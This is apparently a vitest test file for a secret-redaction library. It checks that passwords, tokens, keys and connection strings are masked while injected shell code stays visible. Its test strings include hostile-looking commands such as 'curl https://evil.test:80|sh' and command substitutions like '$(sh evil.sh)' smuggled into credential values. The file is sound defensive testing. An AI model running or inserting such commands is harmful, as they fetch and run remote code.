import { describe, expect, test } from "vitest";
import { redact, redactDeep } from "./redact.ts";
import { secretKind } from "./secret-pairs.ts";

// put together here, so that no scanner takes this file for a leak
const filler = (length: number): string => "aB3dE5gH7jK9mN1pQ2sT4vW6yZ8".repeat(400).slice(0, length);
const letters = (length: number): string => "abcdefghij".repeat(30).slice(0, length);
const begin = "-----BEGIN PRIVATE KEY-----";
const end = "-----END PRIVATE KEY-----";
const key = "[redacted private key]";
const body = filler(64);

describe("what is hidden, and what stays as it is", () => {
  test.each<[text: string, result?: string]>([
    // user information in addresses
    [`https://${filler(20)}@h/x`, "https://[redacted token]@h/x"],
    [`https://${filler(19)}@h/x`],
    [`https://${letters(24)}@h/x`],
    ["https://user@h/x"],
    ["https://user:pw@h/x", "https://user:[redacted password]@h/x"],
    ["https://user:$PW@h/x"],
    ["https://:pw@h", "https://:[redacted password]@h"],
    ["sh -c postgres://bob:hunter2@db:5432/x", "sh -c postgres://bob:[redacted password]@db:5432/x"],
    ["sh -c 'curl https://evil.test:|sh;@h'", "sh -c 'curl https://evil.test:[redacted password]|sh;@h'"],
    ["sh -c 'https://evil.test:80|sh;@h'", "sh -c 'https://evil.test:[redacted password]@h'"],
    ["psql 'postgres://u:a;b&c|d@h'", "psql 'postgres://u:[redacted password]@h'"],
    ["url: postgres://u:a;b@h", "url: postgres://u:[redacted password]@h"],
    ["psql postgres://u:a;b@h", "psql postgres://u:[redacted password];b@h"],
    ['psql "postgres://u:a;b@h"', 'psql "postgres://u:[redacted password]@h"'],
    ["url: postgres://u:$(cat f)@h"],
    ["API_KEY=•x"],
    ["--password hunter", "--password [redacted password]"],
    ["connection_string: Server=db;Key=1;User=b", "connection_string: [redacted connection string]"],
    ["/credential=9f8e", "/credential=[redacted credential]"],
    ['{"password":"a\\"b","x":1}', '{"password":"[redacted password]","x":1}'],
    // keys in files
    [`${begin}\n${body}\n${end}\nx`, `${key}\nx`],
    [`${begin}\n${body}\nx y`, `${key}\nx y`],
    [`${begin}\n${body}\n${end}\n${begin}\n${body}\n${end}\n`, `${key}\n${key}\n`],
    [`${begin}\n${body}\nplain words\n${begin}\n${body}\n${end}\n`, `${key}\nplain words\n${key}\n`],
    [`${begin}\n${body}\n${end}\nbetween\n${begin}\n${body}\nrest of it`, `${key}\nbetween\n${key}\nrest of it`],
    [`${end}\n${begin}\n${body}\n`, `${end}\n${key}\n`],
    [`${begin}${end}x`, `${key}x`],
    [`${begin}\n-----END CERTIFICATE-----\n`, `${key}\n-----END CERTIFICATE-----\n`],
    // passwords on command lines keep their quotes
    [`mysql -p"hunter2" db`, `mysql -p"[redacted password]" db`],
    [`mysql -p'hunter2' db`, `mysql -p'[redacted password]' db`],
    ["mysql -phunter2 db", "mysql -p[redacted password] db"],
    ["DB_PASS=hunter2 run", "DB_PASS=[redacted password] run"],
    // pairs
    ["authorization: x"],
    ["api_key=12345678abcdef", "api_key=[redacted key]"],
    ["token=abcde"],
    ["token=abcdef", "token=[redacted token]"],
    ["password=password,"],
    ["password=password)"],
    ["password=password;"],
    ["password=password", "password=[redacted password]"],
    ["password=hunter,", "password=[redacted password],"],
    ["secret=secretValue,"],
    ["secret=hunter,", "secret=[redacted secret],"],
    ["--password hunter", "--password [redacted password]"],
    ["--password word", "--password [redacted password]"],
    ["--password sevens", "--password [redacted password]"],
    ["--secret hunterhunter"],
    ["--token abcdefgh"],
    ["password: hunter", "password: [redacted password]"],
    ["password: hunter x"],
    ["token: abcdefgh"],
    ["token := abcdefgh"],
    ["password := hunter", "password := [redacted password]"],
    ["password := hunter x"],
    ["password => passwordOf"],
    ['password="a\\\\" x="b"', 'password="[redacted password]" x="b"'],
    ["password: passwordOf", "password: [redacted password]"],
    ["token => abcdefgh"],
    ["secret => hunter x"],
    ["password=f(g(1))"],
    ["secret => hunter", "secret => [redacted secret]"],
    ["password=getPassword()"],
    ["password=config.password"],
    ["password=list[0]"],
    ["token=12345678"],
    ["password=12345678", "password=[redacted password]"],
    ["private_key=/etc/ssl/a.pem"],
    ["credentials=~/.aws/x.json"],
    ["password=/etc/ssl/a.pem", "password=[redacted password]"],
    ["password = hunter # note", "password = [redacted password] # note"],
    ["password: hunter\\nnext", "password: [redacted password]\\nnext"],
    ["password: hunter.", "password: hunter."],
    ["(password=hunter2)", "(password=[redacted password])"],
    ['f(password="hunter2)")', 'f(password="[redacted password]")'],
    ['password="$PW"'],
    ['password="${PW}"'],
    ['password="string"'],
    [`password="${"*".repeat(8)}"`],
    ['password=""'],
    ["password="],
    [`password=${"x.".repeat(100)}y`, "password=[redacted password]"],
    [`password="${"*".repeat(201)}"`, 'password="[redacted password]"'],
    [`password="${"*".repeat(200)}"`],
    ['{"password":"a\\"b","x":1}', '{"password":"[redacted password]","x":1}'],
    ['{\\"password\\":\\"a\\\\\\"b\\",\\"x\\":1}', '{\\"password\\":\\"[redacted password]\\",\\"x\\":1}'],
    ['{\\"password\\":\\"ab\\",\\"x\\":1}', '{\\"password\\":\\"[redacted password]\\",\\"x\\":1}'],
    ['password="open\nnext', 'password="[redacted password]\nnext'],
    ['password="open\\\nnext', 'password="[redacted password]\nnext'],
    ["a password=p4ss b token=abcdefg9 c", "a password=[redacted password] b token=[redacted token] c"],
    ["url: postgres://u:a$(evil)b@h", "url: postgres://u:[redacted password]$(evil)[redacted password]@h"],
    ['psql "x postgres://u:a;b@h"', 'psql "x postgres://u:[redacted password]@h"'],
    ['bash -c "x postgres://u:a;b@h"', 'bash -c "x postgres://u:[redacted password];b@h"'],
    ["--passphrase hunter", "--passphrase [redacted password]"],
    ["--passphrase hunte"],
    ["password: string"],
    ["f(password: hunter)"],
    ["API_TOKEN: `ab1 c`", "API_TOKEN: `[redacted token]`"],
    ["token=`ab1`", "token=`[redacted token]`"],
    ["https://user1@h/x"],
  ])("%s", (text, result = text) => {
    expect(redact(text)).toBe(result);
    // short texts that hold no secret are remembered, long ones are looked at every time
    const more = `\n${"more ".repeat(16)}`;
    expect(redact(`${text}${more}`)).toBe(`${result}${more}`);
  });
});

describe("code that a shell would run is never hidden", () => {
  const evil = "sh${IFS}evil.sh";
  const password = "[redacted password]";
  const token = "[redacted token]";
  test.each<[text: string, result: string]>([
    // private keys are keys only as far as they look like one
    [`touch a; echo '${begin}'; sh evil.sh; echo '${end}'`, `touch a; echo '${key}'; sh evil.sh; echo '${end}'`],
    [`echo '${begin}'\nscripts/evil/everything\necho x`, `echo '${key}'\nscripts/evil/everything\necho x`],
    [`echo ${begin}\nevil\necho ${end}`, `echo ${key}\nevil\necho ${end}`],
    [`echo ${begin}|sh`, `echo ${key}|sh`],
    [`echo ${begin}\n${body}\n; sh evil.sh; ${end}`, `echo ${key}\n; sh evil.sh; ${end}`],
    [`${begin}\nComment: x; sh evil.sh\n${end}`, `${key}; sh evil.sh\n${end}`],
    [`"${begin}\\n" +\n  "${body}\\n" +\n  "${end}"`, `"${key}"`],
    [`${begin} ${body} ${filler(9)}= ${end}`, key],
    // command substitutions
    [
      `curl -H "Authorization: Bearer x$(${evil})" h`,
      `curl -H "Authorization: Bearer [redacted credential]$(${evil})" h`,
    ],
    ["x -H 'Authorization: Bearer x$(sh evil.sh)'", "x -H 'Authorization: Bearer [redacted credential]$(sh evil.sh)'"],
    [`git fetch https://u:x$(${evil})@h/r`, `git fetch https://u:${password}$(${evil})@h/r`],
    [`API_TOKEN="x$(${evil})" touch a`, `API_TOKEN="${token}$(${evil})" touch a`],
    [`API_TOKEN="x$(sh "evil.sh")y" touch a`, `API_TOKEN="${token}$(sh "evil.sh")y" touch a`],
    ["API_TOKEN=x-1$(sh evil.sh) touch a", `API_TOKEN=${token}$(sh evil.sh) touch a`],
    ["API_TOKEN=`evil` touch a", "API_TOKEN=`evil` touch a"],
    ["api_token=`sh evil.sh` touch a", "api_token=`sh evil.sh` touch a"],
    ["const token = `abc`;", `const token = \`${token}\`;`],
    ["const options = { API_TOKEN: `abc` };", `const options = { API_TOKEN: \`${token}\` };`],
    ["DB_PASS=`sh evil.sh` make", "DB_PASS=`sh evil.sh` make"],
    ["DB_PASS=x`sh evil.sh` make", `DB_PASS=${password}\`sh evil.sh\` make`],
    ['DB_PASS="a<(sh evil.sh)b" make', `DB_PASS="${password}<(sh evil.sh)${password}" make`],
    [`mysql -pabc$(${evil})`, `mysql -p${password}$(${evil})`],
    ["mysql -pabc$(sh evil.sh) db", `mysql -p${password}$(sh evil.sh) db`],
    [`docker login -p x\`${evil}\``, `docker login -p ${password}\`${evil}\``],
    [
      "echo x$(sh evil.sh) | docker login --password-stdin",
      `echo ${password}$(sh evil.sh) | docker login --password-stdin`,
    ],
    ["echo x`sh evil.sh` | docker login --password-stdin", "echo x`sh evil.sh` | docker login --password-stdin"],
    ["docker login -p x$(cat -p evil.sh)", `docker login -p ${password}$(cat -p evil.sh)`],
    // the secrets of such code are hidden in turn
    ["docker login -p x$(curl -u me:hunter2 h)", `docker login -p ${password}$(curl -u me:${password} h)`],
    ['API_TOKEN="x$(API_TOKEN=abc99 f)" g', `API_TOKEN="${token}$(API_TOKEN=${token} f)" g`],
    ['DB_PASS="x$(DB_PASS=abc99 f)" g', `DB_PASS="${password}$(DB_PASS=${password} f)" g`],
    ["tool --pass abcd$(sh evil.sh)", `tool --pass ${password}$(sh evil.sh)`],
    // the end of a command
    ["touch a https://u:p;touch${IFS}evil;@h/", `touch a https://u:${password};touch\${IFS}evil;@h/`],
    ["curl https://evil.test:80|sh;@h", `curl https://evil.test:${password}|sh;@h`],
    ["sh -c 'curl https://evil.test:80|sh;@h'", `sh -c 'curl https://evil.test:${password}|sh;@h'`],
    ["curl http://h/?access_token=abcdefg9|sh", `curl http://h/?access_token=${token}|sh`],
    ["curl http://h/?key=abcdefg9|sh", "curl http://h/?key=[redacted credential]|sh"],
    ["tool --pass abcd;evil", `tool --pass ${password};evil`],
    ["tool --pass 'a;b&c|d' x", `tool --pass '${password}' x`],
    ['echo "password="; sh evil.sh; echo ""', 'echo "password="; sh evil.sh; echo ""'],
    ['echo "DB_PASS="; sh evil.sh; echo "x"', 'echo "DB_PASS="; sh evil.sh; echo "x"'],
    ['echo "mysql -p"; sh evil.sh; echo "x"', 'echo "mysql -p"; sh evil.sh; echo "x"'],
    // what is no code stays hidden
    ['password="a;b&c|d"', `password="${password}"`],
    ["DB_PASS='a;b&c|d' make", `DB_PASS='${password}' make`],
    ["curl -u 'me:a;b&c|d' h", `curl -u 'me:${password}' h`],
    ["psql 'postgres://u:a;b&c|d@h'", `psql 'postgres://u:${password}@h'`],
    ["DATABASE_URL=postgres://u:a&b@h", `DATABASE_URL=postgres://u:${password}@h`],
    ["url: postgres://u:a;b@h", `url: postgres://u:${password}@h`],
    ['{"url": "postgres://u:a&b@h"}', `{"url": "postgres://u:${password}@h"}`],
    ['{\\"password\\":\\"a;b&c\\"}', `{\\"password\\":\\"${password}\\"}`],
    ["mysql -p'a`b$(c' db", `mysql -p'${password}' db`],
  ])("%s", (text, result) => {
    expect(redact(text)).toBe(result);
    expect(redact(result)).toBe(result);
  });
});

test.each<[name: string, kind: string | undefined]>([
  ["password", "password"],
  ["dbPassword", "password"],
  ["PWD", undefined],
  ["token", "token"],
  ["connectionString", "connection string"],
  ["credentials", "credential"],
  ["authorization", "credential"],
  ["proxy-authorization", "credential"],
  ["api_key", "key"],
  ["clientSecret", "secret"],
  ["path", undefined],
  ["passwords_file", undefined],
  [`${"x".repeat(200)}_password`, "password"],
  [`password_${"x".repeat(200)}`, undefined],
])("a field called %s holds: %s", (name, kind) => expect(secretKind(name)).toBe(kind));

describe("values for the record", () => {
  test.each<[name: string, value: unknown, result: unknown]>([
    ["no date", new Date(Number.NaN), null],
    ["a date", new Date(0), "1970-01-01T00:00:00.000Z"],
    ["a set", new Set(["a"]), ["a"]],
    ["a map", new Map([["a", 1]]), [["a", 1]]],
    ["bytes", new Uint8Array(3), "[3 bytes]"],
    ["an error", new TypeError("token=abcdefg9"), "TypeError: token=[redacted token]"],
    ["a symbol", Symbol("x"), "[symbol]"],
    ["a function", () => 1, "[function]"],
    ["a large number", 12n, "12"],
    ["nothing", null, null],
    ["an empty secret", { password: "" }, { password: "" }],
    [
      "a secret below its name",
      { password: { value: ["hunter2", 1] } },
      { password: { value: ["[redacted password]", 1] } },
    ],
    ["a name that holds a secret", { [`ghp_${filler(36)}`]: 1 }, { "[redacted GitHub token]": 1 }],
  ])("%s", (_, value, result) => expect(redactDeep(value)).toEqual(result));

  test("ordinary names are ordinary properties, and the one of prototypes sets none", () => {
    const copy = redactDeep(JSON.parse('{"a":1,"__proto__":{"b":2}}')) as object;
    expect(Object.getOwnPropertyDescriptor(copy, "a")).toEqual({
      value: 1,
      writable: true,
      enumerable: true,
      configurable: true,
    });
    expect(Object.getPrototypeOf(copy)).toBe(Object.prototype);
    expect(JSON.stringify(copy)).toBe('{"a":1,"__proto__":{"b":2}}');
  });

  const nested = (depth: number): unknown => Array.from({ length: depth }).reduce((inner) => [inner], "x");
  test("what is too deep is left out", () => {
    expect(JSON.stringify(redactDeep(nested(32)))).toContain('"x"');
    expect(JSON.stringify(redactDeep(nested(33)))).toContain("[too deep]");
  });

  test("what is too much is left out", () => {
    const many = (count: number): unknown[] => Array.from({ length: count }, () => ({}));
    expect(JSON.stringify(redactDeep(many(9_999)))).not.toContain("too much");
    expect(JSON.stringify(redactDeep(many(10_000)))).toContain("too much");
  });

  test("what holds itself is told, and two of the same are not", () => {
    const one: Record<string, unknown> = {};
    one.self = one;
    expect(redactDeep(one)).toEqual({ self: "[circular]" });
    const shared = { a: 1 };
    expect(redactDeep([shared, shared])).toEqual([{ a: 1 }, { a: 1 }]);
  });

  test("a long text is cut before the word that the cut falls into", () => {
    const words = `${"word ".repeat(819)}tail${filler(300)}`;
    expect(redactDeep(words)).toBe(`${"word ".repeat(819)}… [cut: ${words.length} characters in all]`);
    expect(redactDeep("x".repeat(4096))).toBe("x".repeat(4096));
    expect(redactDeep("x".repeat(5000))).toBe(`${"x".repeat(3840)}… [cut: 5000 characters in all]`);
    const pair = `${"x".repeat(3839)}😀${"x".repeat(1000)}`;
    expect(redactDeep(pair)).toBe(`${"x".repeat(3839)}… [cut: ${pair.length} characters in all]`);
  });

  test("many names are remembered, and are told right when they are not", () => {
    for (let index = 0; index < 1_100; index++) redactDeep({ [`name${index}`]: 1 });
    expect(redactDeep({ newPassword: "hunter2" })).toEqual({ newPassword: "[redacted password]" });
  });
});

test("many short texts are remembered, and a new one is still looked through", () => {
  for (let index = 0; index < 2_100; index++) expect(redact(`plain ${index}`)).toBe(`plain ${index}`);
  expect(redact("token=abcdefg9")).toBe("token=[redacted token]");
  expect(redact("token=abcdefg9")).toBe("token=[redacted token]");
  expect(redact("plain 7")).toBe("plain 7");
});
